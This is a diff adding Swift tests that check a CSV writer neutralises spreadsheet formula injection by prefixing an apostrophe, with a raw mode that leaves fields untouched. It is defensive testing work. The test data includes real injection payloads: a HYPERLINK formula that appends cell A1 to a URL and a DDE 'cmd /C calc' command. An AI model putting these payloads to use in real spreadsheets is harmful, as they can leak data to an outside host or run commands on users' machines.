@@ -111,3 +111,20 @@ struct SafeOutputTests {
         #expect(WorkbookTemporary.path(beside: "/q3") == "//.q3.\(pid).tmp")
     }
 }
+
+@Suite("CSV injection")
+struct CSVInjectionTests {
+    @Test(arguments: [("=HYPERLINK(\"http://x\"&A1,\"詳細\")", "'=HYPERLINK(\"http://x\"&A1,\"詳細\")"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+                      ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("-5", "-5"), ("+3.5", "+3.5"), ("売上", "売上"), ("-", "'-")])
+    func fieldsThatWouldRunAreNeutralised(_ field: String, _ written: String) {
+        #expect(CSVWriter.neutralized(field) == written)
+    }
+
+    @Test func rawKeepsThemForMachines() {
+        var people = CSVWriter()
+        people.row(["=1+1", "-2"])
+        var machines = CSVWriter(raw: true)
+        machines.row(["=1+1", "-2"])
+        #expect(people.text == "'=1+1,-2\r\n" && machines.text == "=1+1,-2\r\n")
+    }
+}
